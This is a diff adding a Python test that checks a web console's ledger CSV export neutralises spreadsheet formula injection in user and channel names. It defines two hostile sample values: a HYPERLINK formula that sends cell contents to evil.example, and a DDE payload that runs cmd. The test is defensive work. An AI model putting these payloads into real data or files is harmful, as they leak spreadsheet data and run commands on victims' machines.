@@ -3,13 +3,22 @@ never a 500, and every response (redirects and errors too) carries the security 
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import aiohttp
 
+from adapters.web.console.queries import ConsoleQueries, LedgerFilter
 from adapters.web.console.routes import SECURITY_HEADERS
+from bot.domain import usd_string
+from bot.storage.names import CHANNEL, USER
 from tests.fakes.slack import FakeSlack
-from tests.ops.console_harness import running_console
+from tests.ops.console_harness import now_local, running_console, seed_ledger
+
+# Names people can give themselves and their channels, which a spreadsheet would run as formulas.
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open invoice")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
 def _client() -> aiohttp.ClientSession:
@@ -62,3 +71,29 @@ async def test_hostile_requests_get_a_4xx_and_the_security_headers(slack: FakeSl
             assert refused.status == 200, scope
             assert "slack:U1@foo" not in {scope for scope, _ in await console.core.budget.explicit_limits()}
         assert (await client.get(base + "/channels")).status == 200
+
+
+async def test_the_ledger_csv_writes_hostile_names_as_text(slack: FakeSlack, settings_for, tmp_path: Path) -> None:
+    async with running_console(slack, settings_for, tmp_path) as console, _client() as client:
+        core = console.core
+        await seed_ledger(core, now_local(core))
+        await core.names.remember("slack", USER, "U2", HYPERLINK)
+        await core.names.remember("slack", CHANNEL, "C2", DDE)
+        await core.names.remember("slack", USER, "U1", "Ada Lovelace")
+        await console.sign_in(client)
+        response = await client.get(console.base_url + "/admin/ledger.csv")
+        assert response.status == 200 and _guarded(response)
+        rows = list(csv.DictReader(io.StringIO(await response.text())))
+
+        expected = {r.id: r for r in await ConsoleQueries(core.db, core.reports).ledger(LedgerFilter(), limit=None)}
+        assert sorted(int(row["id"]) for row in rows) == sorted(expected)
+        names = {"slack:U2": "'" + HYPERLINK, "slack:U1": "Ada Lovelace", "discord:777": "", "discord:778": ""}
+        channels = {"slack:C1": "general", "slack:C2": "'" + DDE, "discord:4567": "reviews"}
+        for row in rows:
+            assert row["person_name"] == names[row["person"]]
+            assert row["channel_name"] == channels[row["channel"]]
+            # The figures are the numbers as we wrote them, not quoted text.
+            ledger = expected[int(row["id"])]
+            assert (row["prompt_tokens"], row["cached_tokens"], row["cost_usd"]) == (
+                str(ledger.prompt_tokens), str(ledger.cached_tokens), usd_string(ledger.cost_nanos))
+        assert {row["person"] for row in rows} >= {"slack:U2", "slack:U1"}
